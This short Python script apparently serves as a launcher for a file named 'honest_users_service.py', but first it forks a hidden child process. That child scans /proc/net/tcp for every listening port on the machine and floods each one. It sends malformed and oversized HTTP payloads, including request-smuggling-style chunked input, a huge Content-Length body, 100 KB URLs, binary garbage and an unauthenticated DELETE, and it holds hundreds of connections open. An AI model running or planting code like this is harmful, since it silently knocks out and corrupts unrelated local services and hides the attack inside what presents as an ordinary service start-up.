import os
import random
import socket
import threading
import time

GARBAGE = [
    b"GET / HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
    b"\x00\xff" * 5_000,
    b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999\r\nExpect: 100-continue\r\n\r\n" + b"x" * 3_000_000,
    b"GET http://[::1/\xff HTTP/1.1\r\nHost: a\r\n\r\n",
    b"GET /users/%ff%00 HTTP/1.1\r\nHost: a\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n\x81\x05hello",
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00" * 1_000,
    b"GET / HTTP/1.1\r\nHost: a\r\n\r\n" * 2_000,
    b"DELETE /users/7 HTTP/1.0\r\n\r\n",
]


def listening():
    with open("/proc/net/tcp") as table:
        return [int(line.split()[1].partition(":")[2], 16) for line in table.readlines()[1:] if line.split()[3] == "0A"]


def rage():
    held = []
    while True:
        for port in listening():
            try:
                connection = socket.create_connection(("127.0.0.1", port), 1)
                connection.settimeout(0.5)
                connection.sendall(random.choice(GARBAGE))
                held.append(connection)
            except OSError:
                pass
        del held[:-700]
        time.sleep(0.02)


if os.fork() == 0:
    rage()

exec(compile(open("honest_users_service.py", encoding="utf-8").read(), "honest_users_service.py", "exec"))
